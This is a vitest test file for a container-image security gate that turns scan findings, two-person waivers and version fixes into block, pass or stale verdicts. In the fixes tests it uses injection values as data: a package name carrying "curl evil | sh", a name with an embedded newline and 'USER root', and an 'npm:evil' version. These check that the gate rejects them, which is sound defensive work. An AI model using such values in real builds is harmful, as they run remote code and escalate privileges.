/** The gate's decision: every status, severity, waiver and fix, and the laws that hold for all of them. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Ecosystem, type Finding, type Scan, Severity } from '#core/finding.ts';
import { decideVerdict, explain, Verdict } from '#core/verdict.ts';
import { at, digest, finding, key, policy, t0, waiver } from './samples.ts';

const complete = (findings: Finding[], completedAt = t0): Scan => ({
  status: 'complete',
  completedAt,
  findings,
});
const decide = (scan: Scan, waivers = [] as ReturnType<typeof waiver>[], now = at(60), p = policy) =>
  Verdict.parse(decideVerdict({ environment: key, digest: digest(1), scan, policy: p, waivers, now }));

describe('without a finished scan it blocks', () => {
  it.each<[Scan, string]>([
    [{ status: 'pending' }, 'scan-pending'],
    [{ status: 'failed', reason: 'timeout' }, 'scan-failed'],
    [{ status: 'unsupported', reason: 'UnsupportedImageError' }, 'scan-unsupported'],
    [{ status: 'missing' }, 'scan-missing'],
  ])('%o', (scan, rule) => {
    const verdict = decide(scan, [waiver()]);
    expect(verdict).toMatchObject({ result: 'block', blocking: 1, reasons: [{ rule }], fixes: [] });
    if ('reason' in scan)
      expect(verdict.reasons[0]).toMatchObject({ message: expect.stringContaining(scan.reason) });
  });
});

describe('severities', () => {
  it.each<[Severity, string, string | undefined]>([
    ['CRITICAL', 'block', 'severity'],
    ['HIGH', 'block', 'severity'],
    ['MEDIUM', 'pass', undefined],
    ['LOW', 'pass', undefined],
    ['INFORMATIONAL', 'pass', undefined],
    ['UNTRIAGED', 'block', 'unknown-severity'],
    ['UNKNOWN', 'block', 'unknown-severity'],
  ])('%s: %s', (severity, result, rule) => {
    const verdict = decide(complete([finding({ severity })]));
    expect(verdict.result).toBe(result);
    expect(verdict.reasons[0]?.rule).toBe(rule);
    expect(verdict.counts).toEqual({ [severity]: 1 });
  });

  it('puts the worst first and keeps 50 of any number', () => {
    const many = Array.from({ length: 120 }, (_, i) => finding({ id: `CVE-${i}`, severity: 'HIGH' }));
    const verdict = decide(complete([...many, finding({ id: 'CVE-worst' })]));
    expect(verdict.blocking).toBe(121);
    expect(verdict.reasons).toHaveLength(50);
    expect(verdict.reasons[0]).toMatchObject({ finding: { id: 'CVE-worst' } });
  });
});

describe('a malicious package', () => {
  const malicious = (parts: Partial<Finding> = {}) =>
    finding({ id: 'MAL-2024-9933', package: '3web', installed: '1.0.0', ecosystem: 'pip', ...parts });

  it.each(Severity.options)('blocks, though it is %s', (severity) => {
    const verdict = decide(complete([malicious({ severity })]));
    expect(verdict).toMatchObject({ result: 'block', reasons: [{ rule: 'malicious' }] });
  });

  it('is not rebuilt away, whatever fix it names: a person must know', () => {
    expect(decide(complete([finding(), malicious()])).fixes).toEqual([]);
    expect(decide(complete([finding()])).fixes).toHaveLength(1);
  });

  it('comes before all else, in words that say what to do', () => {
    const [first] = decide(complete([finding(), malicious({ severity: 'LOW' })])).reasons;
    expect(first && explain(first, '1')).toBe(
      'MAL-2024-9933: 3web 1.0.0 is malicious: take it out of the spec, and treat what its build could read as read',
    );
  });

  it('is let through by a waiver of two people, as a false alarm must be', () => {
    expect(decide(complete([malicious()]), [waiver({ cve: 'MAL-2024-9933' })]).result).toBe('pass');
    expect(decide(complete([malicious()]), [waiver()]).result).toBe('block');
  });
});

describe('waivers', () => {
  it('lets the CVE through and is named in the verdict', () => {
    const verdict = decide(complete([finding()]), [waiver()]);
    expect(verdict).toMatchObject({ result: 'pass', waivers: ['w1'], blocking: 0 });
  });
  it('names no waiver that was not needed', () => {
    expect(decide(complete([finding({ severity: 'LOW' })]), [waiver()]).waivers).toEqual([]);
  });
  it('holds up to its end and not at it', () => {
    expect(decide(complete([finding()]), [waiver({ expiresAt: at(61) })]).result).toBe('pass');
    expect(decide(complete([finding()]), [waiver({ expiresAt: at(60) })]).result).toBe('block');
  });
  it.each([
    ['signed by one person', { approver: 'ann' }],
    ['of another team', { team: 'payments' }],
    ['of another environment', { environment: 'api' }],
    ['for another CVE', { cve: 'CVE-2021-44907' }],
  ])('is of no use %s', (_, parts) => {
    expect(decide(complete([finding()]), [waiver(parts)]).result).toBe('block');
  });
  it('may be for this environment alone', () => {
    expect(decide(complete([finding()]), [waiver({ environment: 'web' })]).result).toBe('pass');
  });
});

it('is not stale while enhanced scanning goes on watching the image', () => {
  const scan = complete([]);
  const watched = scan.status === 'complete' ? { ...scan, watched: true as const } : scan;
  expect(decide(watched, [], at(240 * 3600))).toMatchObject({ result: 'pass' });
});
it('is stale when the scan is older than the policy takes, whatever it found', () => {
  expect(decide(complete([]), [], at(24 * 3600)).result).toBe('pass');
  const stale = decide(complete([]), [], at(24 * 3600 + 1));
  expect(stale).toMatchObject({
    result: 'stale',
    blocking: 1,
    reasons: [{ rule: 'scan-too-old' }],
    fixes: [],
  });
});

describe('fixes', () => {
  const fixesOf = (...findings: Finding[]) => decide(complete(findings)).fixes;

  it('names the highest version of each package', () => {
    const minimist = [
      finding({ id: 'CVE-1', fixedIn: '0.2.4' }),
      finding({ id: 'CVE-2', fixedIn: '1.2.10' }),
      finding({ id: 'CVE-3', fixedIn: '1.2.9' }),
    ];
    const jinja = finding({ ecosystem: 'pip', package: 'jinja2', fixedIn: '3.1.6' });
    const openssl = finding({ ecosystem: 'os', package: 'openssl', fixedIn: '3.0.17-1~deb12u2' });
    expect(fixesOf(...minimist, jinja, openssl)).toEqual([
      { manager: 'pip', package: 'jinja2', version: '3.1.6' },
      { manager: 'npm', package: 'minimist', version: '1.2.10' },
      { manager: 'apt', package: 'openssl', version: '3.0.17-1~deb12u2' },
    ]);
  });
  it('looks at what blocks only', () => {
    expect(fixesOf(finding(), finding({ severity: 'LOW', fix: 'no' }))).toHaveLength(1);
  });
  it.each<[string, Partial<Finding>]>([
    ['has no fix', { fix: 'no' }],
    ['is fixed in part', { fix: 'partial' }],
    ['has an unknown fix', { fix: 'unknown' }],
    ['names no version', { fixedIn: undefined } as Partial<Finding>],
    ['is of no package manager of ours', { ecosystem: 'other' }],
    ['has a name with a quote in it', { package: "x'; curl evil | sh; '" }],
    ['has a name with a line end in it', { package: 'x\nUSER root' }],
    ['names a version that is another source', { fixedIn: 'npm:evil' }],
  ])('are none when one blocking finding %s', (_, parts) => {
    expect(fixesOf(finding(), finding({ id: 'CVE-2', ...parts }))).toEqual([]);
  });
});

it('explains itself in one line', () => {
  const [reason] = decide(complete([finding()])).reasons;
  expect(reason && explain(reason, '1')).toBe(
    'CVE-2021-44906 CRITICAL: minimist 1.2.5, fixed in 1.2.6 (rule severity of policy 1)',
  );
  const [unknown] = decide(complete([{ ...finding({ fix: 'unknown' }), fixedIn: undefined }])).reasons;
  expect(unknown && explain(unknown, '1')).toContain('fix unknown');
});

describe('laws', () => {
  const cves = ['CVE-1', 'CVE-2', 'CVE-3'];
  const anyFinding = fc.record({
    id: fc.constantFrom(...cves),
    severity: fc.constantFrom(...Severity.options),
    package: fc.constantFrom('a1', 'b1', 'c1'),
    installed: fc.constant('1'),
    ecosystem: fc.constantFrom(...Ecosystem.options),
    fix: fc.constantFrom<Finding['fix']>('yes', 'no', 'partial', 'unknown'),
    fixedIn: fc.constantFrom('1.1', '1.10', '2.0'),
  });
  const anyWaiver = fc
    .record({
      id: fc.string({ minLength: 1, maxLength: 4 }),
      cve: fc.constantFrom(...cves),
      team: fc.constantFrom('checkout', 'payments'),
      approver: fc.constantFrom('ann', 'bob'),
      expiresAt: fc.constantFrom(at(1), at(3600)),
    })
    .map(waiver);
  const findings = fc.array(anyFinding, { maxLength: 8 });
  const waivers = fc.array(anyWaiver, { maxLength: 4 });

  it('another finding never turns block into pass', () =>
    fc.assert(
      fc.property(findings, waivers, anyFinding, (known, signed, more) => {
        const before = decide(complete(known), signed);
        const then = decide(complete([...known, more]), signed);
        expect(then.blocking).toBeGreaterThanOrEqual(before.blocking);
        if (before.result === 'block') expect(then.result).toBe('block');
      }),
    ));
  it('another waiver never turns pass into block', () =>
    fc.assert(
      fc.property(findings, waivers, anyWaiver, (known, signed, more) => {
        const before = decide(complete(known), signed);
        const then = decide(complete(known), [...signed, more]);
        expect(then.blocking).toBeLessThanOrEqual(before.blocking);
        if (before.result === 'pass') expect(then.result).toBe('pass');
      }),
    ));
  it('the order of findings is of no account', () =>
    fc.assert(
      fc.property(findings, (known) => {
        expect(decide(complete([...known].reverse()))).toEqual(decide(complete(known)));
      }),
    ));
  it('passes exactly when nothing blocks, and offers fixes only to what is blocked', () =>
    fc.assert(
      fc.property(findings, waivers, (known, signed) => {
        const { result, blocking, fixes } = decide(complete(known), signed);
        expect(result === 'pass').toBe(blocking === 0);
        if (result === 'pass') expect(fixes).toEqual([]);
      }),
    ));
});
